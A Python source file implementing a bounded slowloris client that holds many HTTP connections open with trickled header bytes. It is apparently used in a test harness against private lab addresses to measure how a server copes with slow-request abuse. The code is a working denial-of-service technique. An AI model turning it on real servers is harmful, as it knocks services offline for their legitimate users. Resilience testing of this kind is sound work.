"""A slow HTTP client (slowloris) on plain sockets, for the HTTP abuse tests.

Run inside a client namespace:
    python3 slowhttp.py --dst 10.0.0.1 --port 80 --src 10.0.0.10,10.0.0.11 \
        --per-src 64 --seconds 6 --interval 0.5

From each source address it keeps per-src connections open, each sending
the start of a request and then one more header byte every interval,
never finishing the headers; a connection the server closes is opened
again. Bounded: it stops after --seconds and never has more than
sources x per-src sockets, nor more than --max-connects attempts. Prints
one JSON line of counts when done.
"""
import argparse
import errno
import json
import select
import socket
import time

HEAD = b"GET /undionly.kpxe HTTP/1.1\r\nHost: netbay\r\nX-Slow: "


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--dst", required=True)
    ap.add_argument("--port", type=int, default=80)
    ap.add_argument("--src", required=True, help="comma-separated source addresses")
    ap.add_argument("--per-src", type=int, default=64)
    ap.add_argument("--seconds", type=float, default=6.0)
    ap.add_argument("--interval", type=float, default=0.5)
    ap.add_argument("--idle", action="store_true", help="send nothing at all")
    ap.add_argument("--max-connects", type=int, default=20000)
    ap.add_argument("--rate", type=float, default=1000.0, help="connection attempts per second")
    a = ap.parse_args()

    srcs = a.src.split(",")
    socks = {}  # socket -> [src, connected, next_send, connected_at]
    stats = {"attempts": 0, "connected": 0, "closed_by_server": 0, "failed": 0,
             "max_open": 0, "lifetimes": []}
    end = time.monotonic() + a.seconds

    start = time.monotonic()

    def open_one(src):
        if stats["attempts"] >= a.max_connects:
            return
        if stats["attempts"] >= a.rate * (time.monotonic() - start) + a.per_src * len(srcs):
            return
        stats["attempts"] += 1
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.bind((src, 0))
        r = s.connect_ex((a.dst, a.port))
        if r not in (0, errno.EINPROGRESS):
            stats["failed"] += 1
            s.close()
            return
        socks[s] = [src, False, 0.0, 0.0]

    def drop(s, by_server):
        src, connected, _, at = socks.pop(s)
        if by_server and connected:
            stats["closed_by_server"] += 1
            stats["lifetimes"].append(round(time.monotonic() - at, 2))
        elif not connected:
            stats["failed"] += 1
        s.close()

    while time.monotonic() < end:
        per = {}
        for v in socks.values():
            per[v[0]] = per.get(v[0], 0) + 1
        for src in srcs:
            for _ in range(a.per_src - per.get(src, 0)):
                open_one(src)
        now = time.monotonic()
        pending = [s for s, v in socks.items() if not v[1]]
        live = [s for s, v in socks.items() if v[1]]
        r, w, _ = select.select(live, pending, [], 0.05)
        for s in w:
            err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if err:
                drop(s, False)
                continue
            v = socks[s]
            v[1], v[3] = True, now
            stats["connected"] += 1
            try:
                if not a.idle:
                    s.send(HEAD)
            except OSError:
                drop(s, True)
                continue
            v[2] = now + a.interval
        for s in r:
            if s not in socks:
                continue
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:  # closed (FIN or reset): the server let go of it
                drop(s, True)
        for s, v in list(socks.items()):
            if v[1] and not a.idle and v[2] <= now:
                try:
                    s.send(b"a")
                    v[2] = now + a.interval
                except OSError:
                    drop(s, True)
        stats["max_open"] = max(stats["max_open"], sum(1 for v in socks.values() if v[1]))
    for s in list(socks):
        s.close()
    print(json.dumps(stats))


if __name__ == "__main__":
    main()
